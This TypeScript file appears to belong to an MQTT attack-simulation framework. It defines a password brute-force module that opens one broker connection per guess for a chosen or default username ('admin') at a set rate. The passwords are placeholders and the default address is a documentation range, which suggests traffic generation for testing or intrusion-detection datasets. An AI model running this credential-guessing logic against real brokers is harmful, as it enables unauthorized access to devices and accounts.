import { z } from 'zod'
import { addressParam, defineAttack, rateParam } from './attack.ts'

/**
 * Password guessing against one account, MQTTset- and MQTT-PWN-style: a new connection per guess,
 * fired at the rate given without waiting for the last refusal (CONNACK 4).
 */
export const bruteForceAttack = defineAttack({
  type: 'brute-force',
  summary: 'guess passwords for one username, one connection per guess',
  params: z
    .object({
      address: addressParam('203.0.113.10'),
      /** The username guessed at: a device id or a user; the registry's first device when left out. */
      target: z.string().optional(),
      rate: rateParam(5),
    })
    .strict(),
  target: (params, registry) => params.target ?? registry.data.devices[0]?.id ?? 'admin',
  async run(attacker, params, durationMs) {
    const username = attacker.entry.target ?? 'admin'
    await attacker.repeat(params.rate, durationMs, (i) =>
      attacker.connect(params.address, { clientId: `bf${i}`, username, password: `guess-${i}` }).then(
        (client) => client.end(true),
        () => undefined,
      ),
    )
  },
})
